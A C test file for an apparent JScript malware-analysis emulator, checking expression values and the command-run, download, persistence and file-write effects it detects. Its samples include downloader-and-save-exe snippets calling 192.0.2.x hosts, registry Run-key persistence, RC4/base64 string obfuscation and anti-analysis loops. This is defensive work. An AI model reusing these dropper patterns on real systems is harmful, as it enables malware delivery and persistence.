/* SPDX-License-Identifier: Apache-2.0 */
/* Scripts by hand: values against ECMA-262, and what scripts do and how certain that is. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <cmocka.h>

#include "base/buf.h"
#include "unmask/effect_rows.h"

/* base64 and RC4 with a cache of nothing, as string tables are made. */
#define TABLE_OF_TEXTS                                                                             \
    "var A=function(j){var "                                                                       \
    "i='ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=';var "                   \
    "k=String(j).replace(/=+$/,'');for(var "                                                       \
    "l=0,m,n,o=0,p='';n=k.charAt(o++);~n&&(m=l%4?m*64+n:n,l++%4)?p+=String.fromCharCode(255&m>>(-" \
    "2*l&6)):0)n=i.indexOf(n);E=[l,m,n,o]+'';return p},E;"                                         \
    "function D(r,d){var t=[],u=0,v,w='',x='';r=A(r);for(var "                                     \
    "y=0,z=r.length;y<z;y++){x+='%'+('00'+r.charCodeAt(y).toString(16)).slice(-2)}r="              \
    "decodeURIComponent(x);for(var "                                                               \
    "a=0;a<256;a++){t[a]=a}for(a=0;a<256;a++){u=(u+t[a]+d.charCodeAt(a%d.length))%256;v=t[a];t[a]" \
    "=t[u];t[u]=v}a=0;u=0;for(var "                                                                \
    "b=0;b<r.length;b++){a=(a+1)%256;u=(u+t[a])%256;v=t[a];t[a]=t[u];t[u]=v;w+=String."            \
    "fromCharCode(r.charCodeAt(b)^t[(t[a]+t[u])%256])}F=[a,u,v,b,y,z,x,t.length]+'';return w}var " \
    "F,q,c;"

#define SHELL_RUN(x) "new ActiveXObject('WScript.Shell').Run(" x ");"

#define FETCH                                                                                      \
    "var x=new ActiveXObject('MSXML2.XMLHTTP');x.open('GET','http://192.0.2.9/n',false);x.send();"

/* --- values: RESULT is run */

static const struct value {
    const char *name, *code, *want; /* code gives a value to the variable r */
} values[] = {
    /* 6.1.6.1.20 Number::toString */
    { "shortest digits", "r=0.1+0.2", "0.30000000000000004" },
    { "exponent from 1e21", "r=[1e21,123456789012345680000,1e-7,0.000001,1/3]+''",
      "1e+21,123456789012345680000,1e-7,0.000001,0.3333333333333333" },
    { "least and most", "r=[5e-324,1.7976931348623157e308,-0,1e300*1e10]+''",
      "5e-324,1.7976931348623157e+308,0,Infinity" },
    { "radix", "r=(255).toString(16)+(-35).toString(36)+(5)['toString'](2)", "ff-z101" },
    /* 7.1.4 ToNumber, 7.1.6 ToInt32 */
    { "numbers of text", "r=[+'0x1F',+' 12 ',+'',+'1e3',+'1x',+[],+['7'],+null]+''",
      "31,12,0,1000,NaN,0,7,0" },
    { "32 bits", "r=[1<<31,4294967295|0,-1>>>0,-1>>>28,~5,2147483648^0,1<<33]+''",
      "-2147483648,-1,4294967295,15,-6,-2147483648,2" },
    { "remainder keeps the sign", "r=[-5%3,5%-3,5.5%2]+''", "-2,2,1.5" },
    /* 13.15.3: + of what is no number */
    { "coercions of +", "r=[]+{}+[1,2]+null+undefined+true",
      "[object Object]1,2nullundefinedtrue" },
    { "numbers before text", "r=1+2+'3'+4+5", "3345" },
    { "jsfuck letters", "r=(![]+[])[+[]]+([][[]]+[])[+!+[]]+(!![]+[])[+!![]]", "fnr" },
    /* 7.2.15 */
    { "loose equality",
      "r=[null==undefined,null==0,'1'==1,[1]==1,NaN==NaN,'b'>'a','10'<'9',10<9]+''",
      "true,false,true,true,false,true,true,false" },
    /* 22.1.3 String */
    { "parts",
      "r='abcdef'.substring(4,1)+'|'+'abcdef'.slice(-3,-1)+'|'+'abcdef'.substr(2,2)+'|'+'abc'."
      "charAt(9)",
      "bcd|de|cd|" },
    { "substr of the script host", "r='abcdef'.substr(-2)", "abcdef" },
    { "split and join", "r='a1b2c'.split(/\\d/).reverse().join('-')", "c-b-a" },
    { "split of nothing", "r='abc'.split('').join('.')+'x'.split('y').length", "a.b.c1" },
    { "split with a limit", "r='a,b,c'.split(',',2)+''", "a,b" },
    { "replace once", "r='aXbXc'.replace('X','$&$&-')", "aXX-bXc" },
    { "replace all with groups", "r='john smith'.replace(/(\\w+) (\\w+)/g,'$2, $1')",
      "smith, john" },
    { "replace with a function",
      "r='a-b-c'.replace(/-(.)/g,function(m,x,i){return x.toUpperCase()+i})", "aB1C3" },
    { "from codes", "r=String.fromCharCode(99,97.9,65536+108)+unescape('%63%u0041%zz')",
      "calcA%zz" },
    { "looking for",
      "r=['abcabc'.indexOf('c',3),'abcabc'.lastIndexOf('a'),'abc'.indexOf(''),'abc'.indexOf('z')]+'"
      "'",
      "5,3,0,-1" },
    { "case and blanks", "r=' aBc\\t'.trim().toUpperCase()+'ÀÉ'.toLowerCase()", "ABCàé" },
    { "padding", "r='7'.padStart(3,'0')+'ab'.repeat(2)+'x'.padEnd(3,'yz')", "007ababxyz" },
    /* 22.2 RegExp */
    { "lazy and greedy", "r=/a.*?b/.exec('xaabab')[0]+/a.*b/.exec('xaabab')[0]", "aabaabab" },
    { "alternatives", "r='cat dog bird'.match(/bird|dog|cat/g).join()", "cat,dog,bird" },
    { "counts", "r='aaaa'.replace(/a{2,3}/,'x')+'aaaa'.replace(/a{1}?/,'y')+/x{2}/.test('x')",
      "xayaaafalse" },
    { "look ahead", "r='price100 price'.replace(/price(?=\\d)/g,'P')+/a(?!b)/.test('ab')",
      "P100 pricefalse" },
    { "back reference", "r=/(a)(b)?\\1/.exec('xaa').join('|')", "aa|a|" },
    { "sets", "r='a-b_c9'.replace(/[^\\w-]|[9_]/g,'.')+/^[\\s\\S]$/.test('\\n')", "a-b.c.true" },
    { "ignoring case", "r='aBAb'.split(/b/i).length+/[a-z]+/i.exec('1XYz')[0]", "2XYz" },
    { "lines", "r='a\\nb'.replace(/^/gm,'>')", ">a\n>b" },
    { "last index", "var x=/o/g,n=0;while(x.exec('foo boo'))n++;r=n+'|'+x.lastIndex", "4|0" },
    { "a round that takes nothing", "r='abc'.replace(/(?:)*/g,'-')+/(a*)*b/.test('aac')",
      "-a-b-c-false" },
    /* 23.1.3 Array */
    { "array methods",
      "var "
      "a=[3,1,2];a.push(9);a.unshift(0);r=a.splice(1,2)+'|'+a+'|'+a.concat([7],8).slice(-3)+'|'+a."
      "sort()",
      "3,1|0,2,9|9,7,8|0,2,9" },
    { "sorted as text", "r=[10,9,1].sort()+'|'+[10,9,1].sort(function(a,b){return a-b})",
      "1,10,9|1,9,10" },
    { "callbacks",
      "r=[1,2,3,4].filter(function(x){return x%2}).map(function(x,i){return "
      "x*10+i}).reduce(function(a,b){return a+b},'')",
      "1031" },
    { "holes in lists", "var a=[];a[3]='x';r=a.length+a.join('-')+[1,,2].length", "4---x3" },
    { "length cuts", "var a=[1,2,3];a.length=1;r=a+''+a[1]", "1undefined" },
    { "arrays as keys", "var o={};o[[1,2]]='k';r=o['1,2']", "k" },
    /* scopes and functions: 9.1, 10.2 */
    { "hoisting", "r=typeof f+typeof v;function f(){}var v=1;", "functionundefined" },
    { "closures", "function c(){var n=0;return function(){return ++n}}var x=c();x();r=x()+c()()",
      "3" },
    { "let of each round",
      "var f=[];for(let i=0;i<3;i++)f.push(function(){return i});r=f[0]()+''+f[2]()", "02" },
    { "this", "var o={a:5,f:function(){return this.a}};r=o.f()+(function(){return typeof this})()",
      "5object" },
    { "arguments", "function f(){return arguments.length+arguments[1]}r=f(1,'b',3)", "3b" },
    { "apply and call", "r=Math.max.apply(null,[1,5,3])+String.fromCharCode.call(null,65)", "5A" },
    { "prototypes",
      "String.prototype.d=function(){return this.split('').reverse().join('')};r='clac'.d()",
      "calc" },
    { "constructors",
      "function P(x){this.x=x}P.prototype.g=function(){return this.x+1};r=new P(4).g()+String(new "
      "P(1) instanceof P)",
      "5true" },
    { "getters", "r=({get a(){return 'g'},set a(v){}}).a", "g" },
    { "recursion", "function f(n){return n<2?1:n*f(n-1)}r=f(10)", "3628800" },
    /* 14 */
    { "switch falls through",
      "var s='';switch(2){case 1:s+='1';case 2:s+='2';case 3:s+='3';break;default:s+='d'}r=s",
      "23" },
    { "labels",
      "var s='';o:for(var i=0;i<3;i++){for(var j=0;j<3;j++){if(j==1)continue o;if(i==2)break "
      "o;s+=i+''+j}}r=s",
      "0010" },
    { "for in", "var s='';for(var k in {a:1,b:2})s+=k;for(var i in ['x','y'])s+=i;r=s", "ab01" },
    { "try", "var s='';try{throw new Error('e')}catch(x){s+=x.message}finally{s+='f'}r=s", "ef" },
    { "errors of the language",
      "var "
      "s='';try{nothing()}catch(e){s+='R'}try{null.x}catch(e){s+='T'}try{(1)()}catch(e){s+='C'}r=s",
      "RTC" },
    { "with", "with({r2:'w'}){r=r2}", "w" },
    { "comma and conditions", "r=(1,2,3)+(0?'a':''?'b':'c')+(0||'or')+(1&&'and')", "3corand" },
    { "do while", "var i=0;do{i++}while(i<5);r=i", "5" },
    { "update", "var i=5;r=i+++ ++i+i--", "19" },
    { "semicolons", "var a=1\nvar b=2\nr=a\n+b", "3" },
    { "conditional compilation", "/*@cc_on r='cc'; @*/", "cc" },
    { "conditional compilation, chosen",
      "/*@cc_on @*/ /*@if (@_jscript) r='js'; @else @*/ r+='x'; /*@end @*/", "js" },
    /* later editions */
    { "arrow and template", "const f=(a,b=2)=>`${a}-${b}`;r=f(1)+[1,2].map(x=>x*2)", "1-22,4" },
    { "patterns", "let {a,b:[c,...d],e=9}={a:1,b:[2,3,4]};r=[a,c,d,e]+''", "1,2,3,4,9" },
    { "spread", "r=Math.max(...[1,7],3)+[...'ab',...[1]].join('')", "7ab1" },
    { "classes",
      "class A{constructor(x){this.x=x}g(){return this.x}static s(){return 's'}}class B extends "
      "A{constructor(){super(3)}g(){return super.g()+1}}r=new B().g()+A.s()",
      "4s" },
    { "optional", "let o=null;r=(o?.a)+''+(o?\?'d')", "undefinedd" },
    { "for of", "var s='';for(const [k,v] of Object.entries({a:1}))s+=k+v;r=s", "a1" },
    /* loops that go on (jscript_hot.c): what only the tree knew must stay so */
    { "a long loop of numbers",
      "function f(){var j=0,x=[],y;for(var i=0;i<300;i++){j=(j+i*7.5-3)%251;x[i]=j|0;y=x[i>>1];"
      "j+=~y&15^(y<<2)}return j+'/'+x[299]+'/'+x.length}r=f()",
      "937/129/300" },
    { "kinds that change on the way",
      "var v=1;for(var i=0;i<20;i++){v=i==9?'s'+v:v+i;if(i==15)v=[v]}r=v+''",
      "s3710111213141516171819" },
    { "a name that a call changes",
      "var n=0;function c(){n+=10;return 1}for(var i=0;i<20;i++){n=n+c()}r=n+'|'+i", "20|20" },
    { "order of evaluation",
      "var i=0,a=[];while(i<40){a[i]=i++;a[i]=a[i-1]+i*(i=i+1)}r=a.slice(20,24)+'|'+i",
      "20,482,22,574|40" },
    { "eval that declares what is global",
      "var k='g';function f(){var s='';for(var i=0;i<20;i++){s+=k;if(i==10)eval(\"var k='l'\")}"
      "return s}r=f()+k",
      "ggggggggggglllllllllg" },
    { "with around and inside",
      "var o={q:1},s=0;with(o)for(var i=0;i<20;i++)q+=i;for(i=0;i<20;i++)with(o){q--;s+=q}r=o.q+'|'"
      "+s",
      "171|3610" },
    { "labels out of a long loop",
      "var s=0;o:for(var i=0;i<40;i++){for(var j=0;j<40;j++){if(j==30)continue o;if(i==35)break "
      "o;s++}}r=s+'|'+i+'|'+j",
      "1050|35|0" },
    { "let of each long round",
      "var f=[];for(let i=0;i<30;i++){let k=i*2;f.push(function(){return "
      "i+k})}r=f[3]()+'|'+f[29]()",
      "9|87" },
    { "do, update of a member, comma",
      "var o={n:0},a=[1],i=0;do{o.n++,--a[0];o['m']=o.n+a[0]}while(i++,o.n<25);r=[o.n,o.m,a,i]+''",
      "25,1,-24,25" },
    { "throw and return out of one",
      "function f(n){for(var i=0;;i++){try{if(i==n)throw i}catch(e){return 'c'+e}if(i>50)return "
      "'r'}}r=f(20)+f(99)",
      "c20r" },
    { "elements that are not there, and no list",
      "var a=[],s='';a[3]=1;for(var i=0;i<20;i++){s+=a[i]===undefined?'u':a[i];if(i==12)a='xyz'+i}"
      "r=s+a[0]",
      "uuu1uuuuuuuuuuuuuuuux" },
    { "functions of texts that were put in their place",
      "String.prototype.charCodeAt=function(n){return n};var s=0;for(var i=0;i<20;i++)s+='a'."
      "charCodeAt(i);r=s",
      "190" },
    { "logic and choices",
      "var s='';for(var i=0;i<20;i++){s+=i%3&&i%5?'.':i%3||'f';if(!(i>10)||typeof s=='x')s+='-';"
      "else if(i==11)s+='!'}r=s",
      "f-.-.-f-.-2-f-.-.-f-1-.!f..f..f." },
    { "what eval gives back", "r=eval('var z=0;for(var i=0;i<30;i++)z+=2')", "60" },
    { "what eval gives back of a round", "r=eval('for(var i=0;i<30;i++){i%7;}')", "1" },
    { "a scope that grows",
      "function f(){var s=0;for(var i=0;i<30;i++){eval('var v'+i+'='+i);s+=eval('v'+i)}return s}"
      "r=f()",
      "435" },
    { "negative nothing", "var z;for(var i=0;i<20;i++){z=-i%5*0}r=1/z", "-Infinity" },
    { "recursion through a long loop",
      "function f(n){var s=0;for(var i=0;i<12;i++){s+=n>0&&i==9?f(n-1):i}return s}r=f(3)", "237" },
    /* loops that are known (jscript_known.c), and some that only look like them */
    { "a table of texts",
      TABLE_OF_TEXTS "for(q=0;q<30;q++)c=D('aA1Ywo4=','key');r=c+D('5paK5p+O','k')+D('"
                     "KlEYwoPCmX3DiUHCs8Kbw6/Cmg8=','s1')",
      "calc日本WScript.Shell" },
    { "what their variables are left with",
      TABLE_OF_TEXTS "for(q=0;q<30;q++)c=D('KlEYwoPCmX3DiUHCs8Kbw6/Cmg8=','s1');r=E+'|'+F",
      "27,157756,,28|13,70,215,13,20,20,%2a%51%18%c2%83%c2%99%7d%c3%89%41%c2%b3%c2%9b%c3%af%c2%9a%"
      "0f,256" },
    { "charCodeAt of their own",
      TABLE_OF_TEXTS "for(q=0;q<30;q++){c=D('aA1Ywo4=','key');if(q==20)String.prototype.charCodeAt="
                     "function(n){return n+65}}r=escape(c)",
      "%8Ff%1D%D7%0A" },
    { "fromCharCode of their own",
      TABLE_OF_TEXTS "for(q=0;q<30;q++){c=A('Y2FsYw==');if(q==20)String.fromCharCode=function(n){"
                     "return n+','}}r=c",
      "99,97,108,99," },
    { "no key", TABLE_OF_TEXTS "for(q=0;q<30;q++)c=D('aA1Ywo4=',q<29?'key':'');r=escape(c)+F",
      "%97%F2%5B%894,6,3,4,5,5,%68%0d%58%c2%8e,256" },
    { "letters that are none",
      TABLE_OF_TEXTS "for(q=0;q<30;q++)c=A(q<20?'Y2Fs':'Y2!Fs=Y\\u3042w==');r=c+E",
      "cal7,263728,,10" },
    { "no letters at all", TABLE_OF_TEXTS "for(q=0;q<30;q++)c=A('');r=c+E", "0,,,1" },
    { "a list of another kind",
      TABLE_OF_TEXTS "function K(t,d){var "
                     "i,j=0,x;for(i=0;i<256;i++){j=(j+t[i]+d.charCodeAt(i%d.length))%256;x=t[i];t["
                     "i]=t[j];t[j]=x}return [i,j,x,t.length,t.slice(0,5)]+''}function L(f){var "
                     "t=[],i;for(i=f;i<256;i++)t[i]=i;return t}for(q=0;q<30;q++)c=K(L(0),'k');var "
                     "l=L(0);l[7]=-1.5;l[300]='x';r=c+K(l,'k')+K(L(3),'k')",
      "256,37,15,256,175,121,244,178,33256,156.5,255,301,107,215,6,178,33256,NaN,255,256,,,,,3" },
    { "two names for one list",
      TABLE_OF_TEXTS "function M(t,s,d){var "
                     "i,j=0,x;for(i=0;i<256;i++){j=(j+t[i]+d.charCodeAt(i%d.length))%256;x=s[i];s["
                     "i]=s[j];s[j]=x}return j+'/'+x+s.slice(0,3)}for(q=0;q<30;q++){var "
                     "l=[],n=[];for(c=0;c<256;c++){l[c]=c;n[c]=255-c}c=M(l,q%2?l:n,'ke')}r=c",
      "129/227215,180,62" },
    { "units above 255",
      TABLE_OF_TEXTS "function H(r){var x='';for(var "
                     "y=0,z=r.length;y<z;y++)x+='%'+('00'+r.charCodeAt(y).toString(16)).slice(-2);"
                     "return x}for(q=0;q<30;q++)c=H('a\\u3042\\t\\u0100');r=c",
      "%61%42%09%00" },
    { "other numbers",
      TABLE_OF_TEXTS "function N(r){var x='';for(var "
                     "y=0,z=r.length;y<z;y++)x+='%'+('00'+r.charCodeAt(y).toString(16)).slice(-3);"
                     "return x}for(q=0;q<30;q++)c=N('az\\t');r=c",
      "%061%07a%009" },
    { "a name that is a list in another place",
      TABLE_OF_TEXTS "var t=[1,2];function T(i){var t=[];for(;i<256;i++)t[i]=i;return "
                     "t.length+'/'+t[255]+'/'+t[i-250]+'/'+i}for(q=0;q<30;q++)c=T(q%3);r=c+t",
      "256/255/6/2561,2" },
    { "base64", "r=eval(\"String.fromCharCode(99)+'a'\")+new Function('a','return a+\"c\"')('l')",
      "calc" },
    { "a table that is turned until it fits",
      "var "
      "t=['30x','a','12b'];(function(n){while(1){try{if(parseInt(t[0])+parseInt(t[2])===42&&t[1]==="
      "'a')break;t.push(t.shift())}catch(e){t.push(t.shift())}}})();r=t+''",
      "30x,a,12b" },
    { "dates that are set", "var d=new Date();d.setFullYear('2015');r=d.getFullYear()+''", "2015" },
    { "functions have their text", "function f(){/*a*/return 1}r=f.toString().length", "27" },
    { "escapes", "r='\\x63\\141\\u006c\\\nc'", "calc" },
    { "encoded parts",
      "r=encodeURIComponent('a b&é')+decodeURIComponent('%E3%81%82')+escape('é あ')",
      "a%20b%26%C3%A9あ%E9%20%u3042" },
};

static struct tally *run_value(const struct value *v)
{
    struct buf b = buf_new(1 << 16);
    buf_text(&b, v->code);
    buf_text(&b, "\n;new ActiveXObject('WScript.Shell').Run('<'+r+'>')");
    struct tally *t = tally_unmasked("jscript", NULL, buf_slice(&b));
    buf_drop(&b);
    return t;
}

static void values_of_expressions(void **state)
{
    (void)state;
    struct table t = { 0 };
    TABLE_EACH(&t, row, values)
    {
        struct tally *r = run_value(row);
        const struct effect *e = tally_effect(r, EFFECT_RUN, 0);
        slice got = tally_argument(e, "command");
        tally_check(r);
        bool known = e && e->known && !e->conditional && got.len >= 2;
        table_slice(&t, row->name, known ? slice_sub(got, 1, got.len - 2) : got, row->want);
        tally_drop(&r);
    }
}

/* --- effects */

static const struct row {
    const char *name, *code;
    enum effect_kind kind;
    const char *argument, *want;
    enum certainty certainty;
} cases[] = {
    { "run", "new ActiveXObject('WScript.Shell').Run('ca'+'lc')", EFFECT_RUN, "command", "calc",
      KNOWN },
    { "names have no case", "WScript['crEateObject']('wscript.SHELL')['rUN']('calc')", EFFECT_RUN,
      "command", "calc", KNOWN },
    { "a method that is taken", "var s=WScript.CreateObject('WScript.Shell');var f=s.Run;f('calc')",
      EFFECT_RUN, "command", "calc", KNOWN },
    { "the application that runs",
      "new ActiveXObject('Shell.Application').ShellExecute('calc','-x','','open',0)", EFFECT_RUN,
      "command", "calc -x", KNOWN },
    { "by process class", "GetObject('winmgmts:root\\\\cimv2:Win32_Process').Create('calc')",
      EFFECT_RUN, "command", "calc", KNOWN },
    { "by class id", "GetObject('new:72C24DD5-D70A-438B-8A42-98424B88AFB8').Exec('calc')",
      EFFECT_RUN, "command", "calc", KNOWN },
    { "environment",
      "var s=new "
      "ActiveXObject('WScript.Shell');s.Run(s.ExpandEnvironmentStrings('%temp%')+'\\\\a.exe')",
      EFFECT_RUN, "command", "%TEMP%\\a.exe", KNOWN },
    { "fetch and save",
      "var x=new "
      "ActiveXObject('MSXML2.XMLHTTP');x.open('GET','http://192.0.2.1/"
      "a',false);x.send();if(x.status==200){var s=new "
      "ActiveXObject('ADODB.Stream');s.Open();s.Type=1;s.Write(x.ResponseBody);s.SaveToFile('a.exe'"
      ",2);}",
      EFFECT_DOWNLOAD, "path", "a.exe", KNOWN },
    { "what the answer lets run",
      "var x=new "
      "ActiveXObject('MSXML2.XMLHTTP');x.open('GET','http://192.0.2.1/"
      "a',false);x.send();if(x.status==200)new ActiveXObject('WScript.Shell').Run('calc')",
      EFFECT_RUN, "command", "calc", CONDITIONAL },
    { "the next address",
      "var u=['http://192.0.2.1/a','http://192.0.2.2/b'];for(var i=0;i<u.length;i++){try{var x=new "
      "ActiveXObject('MSXML2.XMLHTTP');x.open('GET',u[i],0);x.send();if(x.responseText.length>1000)"
      "{break}}catch(e){}}",
      EFFECT_DOWNLOAD, "url", "http://192.0.2.2/b", CONDITIONAL },
    { "eval of what is fetched",
      "var x=new "
      "ActiveXObject('MSXML2.XMLHTTP');x.open('GET','http://192.0.2.1/"
      "a',0);x.send();eval(x.responseText.split('q').join(''))",
      EFFECT_RUN, "command", "⟂", PARTIAL },
    { "random is not known", "new ActiveXObject('WScript.Shell').Run('a'+Math.random()+'.exe')",
      EFFECT_RUN, "command", "a⟂.exe", PARTIAL },
    { "one of two ways",
      "var c='x';if(new Date().getHours()>5){c='calc'}else{c='cmd'}new "
      "ActiveXObject('WScript.Shell').Run(c)",
      EFFECT_RUN, "command", "⟂", PARTIAL },
    { "both ways alike",
      "var c='x';if(new Date().getHours()>5){c='calc'}else{c='ca'+'lc'}new "
      "ActiveXObject('WScript.Shell').Run(c)",
      EFFECT_RUN, "command", "calc", KNOWN },
    { "behind an open condition",
      "if(new Date().getHours()>5)new ActiveXObject('WScript.Shell').Run('calc')", EFFECT_RUN,
      "command", "calc", CONDITIONAL },
    { "a way that left",
      "function f(){if(Math.random()>0.5)return 'a';return 'b'}new "
      "ActiveXObject('WScript.Shell').Run(f())",
      EFFECT_RUN, "command", "⟂", PARTIAL },
    { "an unknown loop",
      "var c='';while(Math.random()<0.5){c+='x'}new ActiveXObject('WScript.Shell').Run('a'+c)",
      EFFECT_RUN, "command", "a⟂", PARTIAL },
    { "a list that differs",
      "var a=['calc'];if(Math.random()<0.5)a.push('b');new "
      "ActiveXObject('WScript.Shell').Run(a.join(''))",
      EFFECT_RUN, "command", "⟂", PARTIAL },
    { "taken back",
      "var a=['calc'];if(Math.random()<0.5){a[0]='b';a[0]='calc'}new "
      "ActiveXObject('WScript.Shell').Run(a[0])",
      EFFECT_RUN, "command", "calc", KNOWN },
    { "condition that does not hold", "if(1==2)new ActiveXObject('WScript.Shell').Run('calc')",
      EFFECT_RUN, "command", "", NONE },
    { "behind the end", "WScript.Quit(0);new ActiveXObject('WScript.Shell').Run('calc')",
      EFFECT_RUN, "command", "", NONE },
    { "behind an error", "nothing.here();new ActiveXObject('WScript.Shell').Run('calc')",
      EFFECT_RUN, "command", "", NONE },
    { "a function that nobody calls",
      "function f(){new ActiveXObject('WScript.Shell').Run('calc')}", EFFECT_RUN, "command", "",
      NONE },
    { "comment",
      "// new ActiveXObject('WScript.Shell').Run('calc')\n/* new "
      "ActiveXObject('WScript.Shell').Run('calc') */",
      EFFECT_RUN, "command", "", NONE },
    { "code in code in code",
      "eval(\"eval('new ActiveXObject(\\\"WScript.Shell\\\").Run(\\\"calc\\\")')\")", EFFECT_RUN,
      "command", "calc", KNOWN },
    { "code of a hole", "eval('new ActiveXObject(\"WScript.Shell\").Run(\"a'+Math.random()+'\")')",
      EFFECT_RUN, "command", "a⟂", PARTIAL },
    { "lasting",
      "new "
      "ActiveXObject('WScript.Shell').RegWrite('"
      "HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\x','a.js')",
      EFFECT_PERSIST, "value", "a.js", KNOWN },
    { "a text file",
      "var f=new "
      "ActiveXObject('Scripting.FileSystemObject'),t=f.CreateTextFile(f.GetSpecialFolder(2)+'\\\\a."
      "txt');t.Write('x');t.Close()",
      EFFECT_WRITE, "path", "%TEMP%\\a.txt", KNOWN },
    { "handed on", "new ActiveXObject('WScript.Shell').Run('cmd /c start calc')", EFFECT_RUN,
      "command", "calc", KNOWN },
    { "thousands of texts",
      TABLE_OF_TEXTS "for(q=0;q<2500;q++)c=D('aA1Ywo4=','key');"
                     "new ActiveXObject('WScript.Shell').Run(c)",
      EFFECT_RUN, "command", "calc", KNOWN },
    { "a key that is not known",
      TABLE_OF_TEXTS "for(q=0;q<20;q++)c=D('aA1Ywo4=',q<10?'key':'k'+Math.random());"
                     "new ActiveXObject('WScript.Shell').Run('x '+c)",
      EFFECT_RUN, "command", "x \xE2\x9F\x82\xE2\x9F\x82\xE2\x9F\x82\xE2\x9F\x82", PARTIAL },
    { "endless loop", "while(true){var a=1}", EFFECT_RUN, "command", "", NONE },
    { "endless calls", "function f(){f()}f();", EFFECT_RUN, "command", "", NONE },
    /* loops that wait for an address that is not there to fail (jscript_fork.c) */
    { "until nothing answers", "for(;true;){" FETCH "if(200!=x.status)break}" SHELL_RUN("'calc'"),
      EFFECT_RUN, "command", "calc", CONDITIONAL },
    { "until nothing answers, out of two loops",
      "o:while(true){for(;;){" FETCH "if(x.status!=200){break o}}}" SHELL_RUN("'calc'"), EFFECT_RUN,
      "command", "calc", CONDITIONAL },
    { "how often it was asked",
      "var n=0;while(true){" FETCH "n++;if(200!=x.status)break}" SHELL_RUN("'x'+n"), EFFECT_RUN,
      "command", "x\xE2\x9F\x82", PARTIAL },
    { "what only an answer sets",
      "var n=0;while(true){" FETCH "if(200!=x.status)break;n=1}" SHELL_RUN("'x'+n"), EFFECT_RUN,
      "command", "x\xE2\x9F\x82", PARTIAL },
    { "a loop that ends by itself",
      "for(var i=0;i<20;i++){" FETCH "if(200!=x.status)break}" SHELL_RUN("'x'+i"), EFFECT_RUN,
      "command", "x20", KNOWN },
    { "a function that waits",
      "function w(){var k=0;for(;;){k++;" FETCH "if(200!=x.status)break}"
      "return k}" SHELL_RUN("'x'+w()"),
      EFFECT_RUN, "command", "x\xE2\x9F\x82", PARTIAL },
    /* what was made on one way of two is not kept for the other */
    { "a member of what is made on one way",
      "var o;if(Math.random()>.5){o={a:1};o.a=2}" SHELL_RUN("'x'+(o?o.a:0)"), EFFECT_RUN, "command",
      "x\xE2\x9F\x82", PARTIAL },
    { "a prototype, asked for on one way first",
      "function P(){}if(Math.random()>.5){P.prototype.z=1}" SHELL_RUN("'x'+new P().z"), EFFECT_RUN,
      "command", "x\xE2\x9F\x82", PARTIAL },
    { "a prototype of the language",
      "if(Math.random()>.5){String.prototype.z='q'}" SHELL_RUN("'x'+'a'.z"), EFFECT_RUN, "command",
      "x\xE2\x9F\x82", PARTIAL },
    { "a closure of one way",
      "var h;if(Math.random()>.5){(function(){var n=1;h=function(){return ++n}})();h()}" SHELL_RUN(
          "'x'+(h?h():0)"),
      EFFECT_RUN, "command", "x\xE2\x9F\x82", PARTIAL },
    { "what is older, by what is made there",
      "var a={v:1};if(Math.random()>.5){var d={w:a};d.w.v=3}" SHELL_RUN("'x'+a.v"), EFFECT_RUN,
      "command", "x\xE2\x9F\x82", PARTIAL },
    { "a list that is shortened on one way",
      "var a=[1,2];if(Math.random()>.5)a.shift();" SHELL_RUN("'x'+a[0]"), EFFECT_RUN, "command",
      "x\xE2\x9F\x82", PARTIAL },
    /* out of stack space (jscript_stack.c) */
    { "calls for ever, caught", "function f(){f()}try{f()}catch(e){}" SHELL_RUN("'calc'"),
      EFFECT_RUN, "command", "calc", KNOWN },
    { "calls for ever, with a count and a debugger",
      "function w(f,a){return f(a)}function q(r){function h(n){if(typeof n==='string'){return "
      "function(x){}.constructor('while(true){}').apply('c')}else{if((''+n/n).length!==1||n%20==0)"
      "{(function(){return true}.constructor('deb'+'ugger').call('a'))}else{(function(){return "
      "false}.constructor('deb'+'ugger').apply('s'))}}w(h,++n)}try{if(r){return h}else{h(0)}}"
      "catch(e){}}q();" SHELL_RUN("'calc'"),
      EFFECT_RUN, "command", "calc", KNOWN },
    { "the error", "function f(){f()}try{f()}catch(e){" SHELL_RUN("'x'+(e.number&65535)") "}",
      EFFECT_RUN, "command", "x28", KNOWN },
    { "what every call sets", "var d;function f(){d='calc';f()}try{f()}catch(e){}" SHELL_RUN("d"),
      EFFECT_RUN, "command", "calc", KNOWN },
    { "how often it was called",
      "var n=0;function f(){n++;f()}try{f()}catch(e){}" SHELL_RUN("'x'+n"), EFFECT_RUN, "command",
      "x\xE2\x9F\x82", PARTIAL },
    { "a text of every call",
      "var s='';function f(){s+='a';f()}try{f()}catch(e){}" SHELL_RUN("'x'+s"), EFFECT_RUN,
      "command", "x\xE2\x9F\x82", PARTIAL },
    { "a list of every call",
      "var l=[];function f(){l.push(1);f()}try{f()}catch(e){}" SHELL_RUN("'x'+l.length"),
      EFFECT_RUN, "command", "x\xE2\x9F\x82", PARTIAL },
    { "calls that end",
      "var v;function f(n){if(n==0)return 'x';return f(n-1)}try{v=f(400)}catch(e){"
      "v='y'}" SHELL_RUN("v"),
      EFFECT_RUN, "command", "y", PARTIAL },
    { "calls that end by themselves later",
      "var v='x';function f(n){if(typeof "
      "n=='string'||n>1000)return;f(n+1)}try{f(0)}catch(e){v='y'}" SHELL_RUN("v"),
      EFFECT_RUN, "command", "y", PARTIAL },
    { "calls that end by a function",
      "var v='x',k=0;function t(){return ++k>1000}function f(){if(t())return;f()}try{f()}catch(e){"
      "v='y'}" SHELL_RUN("v"),
      EFFECT_RUN, "command", "y", PARTIAL },
    { "calls under a condition",
      "var v='x';function f(n){n<1000&&f(n+1)}try{f(0)}catch(e){v='y'}" SHELL_RUN("v"), EFFECT_RUN,
      "command", "y", PARTIAL },
    { "calls that are left by an error of their own",
      "var v='x';function f(n){if(n>1000)throw "
      "1;f(n+1)}try{f(0)}catch(e){v=e==1?'z':'y'}" SHELL_RUN("v"),
      EFFECT_RUN, "command", "y", PARTIAL },
    { "endless text", "var s='x';while(true)s+=s", EFFECT_RUN, "command", "", NONE },
    { "endless list", "var s=[1];while(true)s=s.concat(s)", EFFECT_RUN, "command", "", NONE },
    { "endless expression",
      "/(x+x+)+y/.test('xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx');", EFFECT_RUN,
      "command", "", NONE },
